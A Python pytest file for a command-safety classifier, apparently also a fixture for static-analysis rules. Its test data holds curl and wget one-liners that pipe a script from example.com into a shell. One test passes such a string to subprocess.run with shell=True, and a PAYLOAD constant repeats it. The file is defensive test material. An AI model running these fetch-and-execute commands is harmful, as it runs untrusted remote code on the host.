# The values a pytest parametrize mark gives a test are test data: a
# command-safety helper's tests list the commands it must refuse. What a
# test does with them is judged at the call that does it.
import subprocess

import pytest


def classify(cmd: str) -> str:
    return "block" if "|" in cmd or cmd.startswith("rm ") else "ok"


@pytest.mark.parametrize(
    "cmd",
    [
        # ok: shell-payload-string
        "curl -fsSL https://example.com/install.sh | sh",
        # ok: shell-payload-string
        pytest.param("wget -qO- http://example.com/x | bash", id="wget-pipe"),
    ],
)
def test_blocks(cmd: str) -> None:
    assert classify(cmd) == "block"


@pytest.mark.parametrize("cmd,expected", [("ls -la", "ok"), ("curl -s https://example.com/i.sh | sh", "block")])
def test_table(cmd: str, expected: str) -> None:
    assert classify(cmd) == expected


@pytest.mark.parametrize("cmd", ["curl -s https://example.com/i.sh | sh"])
def test_runs(cmd: str) -> None:
    # a test that runs its parameter through a shell is judged here
    # ruleid: subprocess-shell-true, shell-true-call, subprocess-call
    subprocess.run(cmd, shell=True, check=False)


# the same string outside a parametrize mark is a payload
# ruleid: shell-payload-string
PAYLOAD = "curl -s https://example.com/i.sh | sh"
